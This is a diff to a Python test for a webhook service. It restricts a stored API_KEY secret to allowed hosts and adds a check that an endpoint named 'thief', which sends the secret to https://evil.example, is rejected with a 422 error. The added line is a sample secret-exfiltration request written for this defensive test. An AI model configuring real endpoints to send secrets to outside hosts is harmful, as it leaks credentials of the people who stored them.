@@ -23,15 +23,19 @@ def test_every_attempt_is_signed_and_carries_the_secret_that_nobody_reads_again(
         return Response(f"you sent {request.get_data(as_text=True)}", status=503 if attempt == 1 else 200)
 
     httpserver.expect_request("/hook").respond_with_handler(hook)
-    stack.client.put(f"/jobs/{job}/secrets/API_KEY", json={"value": VALUE}).raise_for_status()
+    home = httpserver.url_for("").rstrip("/").replace("localhost", "127.0.0.1")
+    secret = {"value": VALUE, "hosts": [home]}
+    stack.client.put(f"/jobs/{job}/secrets/API_KEY", json=secret).raise_for_status()
     request = {
-        "url": httpserver.url_for("/hook").replace("localhost", "127.0.0.1") + "?k={{secret:API_KEY}}",
+        "url": home + "/hook?k={{secret:API_KEY}}",
         "method": "POST",
         "body": {"key": "{{secret:API_KEY}}", "to": "Jörg"},
     }
     config = {"name": "hook", "baseline": {"manual": True}, "request": request}
     config |= {"retry": {"maxAttempts": 2, "backoffMs": 0}}
     made = stack.client.post(f"/jobs/{job}/endpoints", json=config).raise_for_status().json()
+    stolen = {**config, "name": "thief", "request": {**request, "url": "https://evil.example/?k={{secret:API_KEY}}"}}
+    assert stack.client.post(f"/jobs/{job}/endpoints", json=stolen).status_code == 422
     holder = {"endpointId": made["endpointId"]}
     first = stack.client.post("/signing-keys", json=holder).raise_for_status().json()
     second = stack.client.post(f"/signing-keys/{first['signingKeyId']}/rotate").raise_for_status().json()
